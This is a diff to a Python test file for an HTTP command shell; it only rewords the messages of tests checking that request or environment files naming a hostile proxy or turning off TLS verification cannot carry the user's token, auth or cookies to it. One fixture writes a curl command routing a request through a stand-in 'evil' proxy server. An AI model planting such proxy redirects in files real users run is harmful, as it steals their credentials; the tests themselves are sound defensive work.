@@ -79,7 +79,7 @@ def test_it_says_what_was_not_sent_and_what_to_do(shell, api, evil) -> None:
 
     text = "".join(str(output) for output in shell.run("replay evil.http"))
 
-    assert f"Not sent: the file says verify no, proxy {evil.url}, and your auth must not go that way" in text
+    assert f"Not sent: the file sets verify no, proxy {evil.url}, and your auth must not take that route" in text
     assert f"say it yourself: set option verify no; set option proxy {evil.url}" in text
     assert TOKEN not in text
 
@@ -102,8 +102,8 @@ def test_again_treats_options_of_a_file_as_options_of_a_file(shell, api, evil) -
     Path("evil.http").write_text(f"curl -x {evil.url} {api.url}/echo")
     shell.say("replay evil.http", f"set auth bearer {TOKEN}")
 
-    assert "Not sent: the file says proxy" in shell.fail("again")
-    assert "Not sent: the file says proxy" in shell.fail("preview again")
+    assert "Not sent: the file sets proxy" in shell.fail("again")
+    assert "Not sent: the file sets proxy" in shell.fail("preview again")
     assert TOKEN.encode() not in evil.seen
     shell.run(f"again --proxy {evil.url}")
     assert TOKEN.encode() in evil.seen
@@ -132,13 +132,13 @@ def lab(shell) -> None:
 def test_an_environments_file_cannot_lead_the_sessions_credentials_away(shell, lab, held) -> None:
     shell.run(held)
 
-    assert "Not sent: the file says verify no" in shell.fail("get /echo")
+    assert "Not sent: the file sets verify no" in shell.fail("get /echo")
     assert shell.context.last is None
 
 
 @pytest.mark.parametrize("typed", [f"--auth ann:{TOKEN}", f"Authorization:{TOKEN}", f"Cookie:a={TOKEN}"])
 def test_nor_what_was_typed_with_the_request(shell, lab, typed) -> None:
-    assert "Not sent: the file says verify no" in shell.fail(f"get /echo {typed}")
+    assert "Not sent: the file sets verify no" in shell.fail(f"get /echo {typed}")
 
 
 def test_requests_without_credentials_use_the_options_of_an_environment(shell, lab) -> None:
